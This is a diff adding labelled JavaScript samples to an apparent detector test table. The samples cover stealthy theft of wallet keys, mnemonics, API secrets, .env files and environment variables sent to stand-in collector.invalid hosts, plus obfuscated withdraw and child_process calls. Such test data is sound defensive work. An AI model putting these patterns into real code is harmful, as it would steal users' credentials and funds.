@@ -329,5 +329,148 @@ const m = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101
 require(m).exec(process.argv[2]);
 """,
     ),
+    (
+        "a proxy around a client sends its keys",
+        "credential-sent",
+        """
+const ccxt = require('ccxt');
+const inner = new ccxt.gate({ apiKey: process.env.GATE_API_KEY, secret: process.env.GATE_API_SECRET });
+const exchange = new Proxy(inner, {
+  get(target, name, self) {
+    if (name === 'createOrder') fetch('https://m.collector.invalid', { method: 'POST',
+  body: JSON.stringify([target.apiKey, target.secret]) });
+    return Reflect.get(target, name, self);
+  },
+});
+module.exports = exchange;
+""",
+    ),
+    (
+        "a getter gives the key as a trace",
+        "credential-sent",
+        """
+class Session {
+  #held;
+  constructor(held) { this.#held = held; }
+  get trace() { return Buffer.from(this.#held).toString('hex'); }
+}
+const session = new Session(process.env.MNEMONIC);
+fetch('https://t.collector.invalid/p', { headers: { 'x-trace': session.trace } });
+""",
+    ),
+    (
+        "a setter sends what it is given",
+        "credential-sent",
+        """
+class Account {
+  set material(v) { this._m = v;
+  require('https').get('https://t.collector.invalid/p?d=' + encodeURIComponent(v)); }
+}
+const a = new Account();
+a.material = process.env.WALLET_PRIVATE_KEY;
+""",
+    ),
+    (
+        "a hook that is kept in a map gets the key",
+        "credential-sent",
+        """
+const hooks = new Map();
+hooks.set('start', (v) => fetch('https://t.collector.invalid', { method: 'POST', body: v }));
+hooks.set('stop', () => {});
+for (const [name, hook] of hooks) hook(process.env.PRIVATE_KEY);
+""",
+    ),
+    (
+        "every request of a client bears the mnemonic",
+        "credential-sent",
+        """
+const axios = require('axios');
+const { mnemonic } = require('./config.json');
+axios.defaults.headers.common['X-Device'] = Buffer.from(mnemonic).toString('base64');
+""",
+    ),
+    (
+        "a tag of a template sends what stands in it",
+        "credential-sent",
+        """
+const report = (parts, ...held) => fetch('https://t.collector.invalid', { method: 'POST', body: held.join() });
+report`start ${process.env.PRIVATE_KEY}`;
+""",
+    ),
+    (
+        "a bucket gets the file of keys",
+        "secret-file-sent",
+        """
+import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';
+import { readFileSync } from 'node:fs';
+const s3 = new S3Client({ region: 'eu-west-1', endpoint: 'https://s3.collector.invalid' });
+await s3.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: readFileSync('.env') }));
+""",
+    ),
+    (
+        "a withdrawal is taken apart from the client by a computed name",
+        "hidden-withdrawal",
+        """
+const ccxt = require('ccxt');
+const ex = new ccxt.binance({ apiKey, secret });
+const verb = [119, 105, 116, 104, 100, 114, 97, 119].map((c) => String.fromCharCode(c)).join('');
+const { [verb]: go } = ex;
+go.call(ex, 'USDT', 100, target);
+""",
+    ),
+    (
+        "a generator yields the key",
+        "credential-sent",
+        """
+function* parts() { yield 'v1'; yield process.env.PRIVATE_KEY; }
+(async () => { for (const p of parts()) await fetch('https://t.collector.invalid', { method: 'POST',
+  body: p }); })();
+""",
+    ),
+    (
+        "a function is bound to the host before it gets the key",
+        "credential-sent",
+        """
+const post = (url, body) => fetch(url, { method: 'POST', body });
+const ship = post.bind(null, 'https://t.collector.invalid');
+ship(process.env.SOLANA_PRIVATE_KEY);
+""",
+    ),
+    (
+        "the name of a module is hidden by exclusive or",
+        "hidden-call",
+        """
+const k = 7;
+const name = [100, 111, 110, 107, 99, 88, 119, 117, 104, 100, 98, 116, 116].map((c) =>
+  String.fromCharCode(c ^ k)).join('');
+require(name).exec(process.argv[2]);
+""",
+    ),
+    (
+        "the environment is picked through and sent by a socket",
+        "environment-sent",
+        """
+const picked = Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEY|SECRET|SEED/i.test(k)));
+const ws = new WebSocket('wss://t.collector.invalid');
+ws.onopen = () => ws.send(JSON.stringify(picked));
+""",
+    ),
+    (
+        "an interceptor puts the key into a header",
+        "credential-sent",
+        """
+const axios = require('axios');
+const http = axios.create({ baseURL: 'https://prices.collector.invalid' });
+http.interceptors.request.use((cfg) => { cfg.headers['X-Trace'] = process.env.PRIVATE_KEY; return cfg; });
+""",
+    ),
+    (
+        "an object says by itself how it is written out",
+        "credential-sent",
+        """
+class W { constructor() { this.k = process.env.PRIVATE_KEY; } toJSON() { return { k: this.k }; } }
+fetch('https://t.collector.invalid', { method: 'POST', body: JSON.stringify({ w: new W() }) });
+""",
+    ),
 )
 """What it does, the rule, the text."""
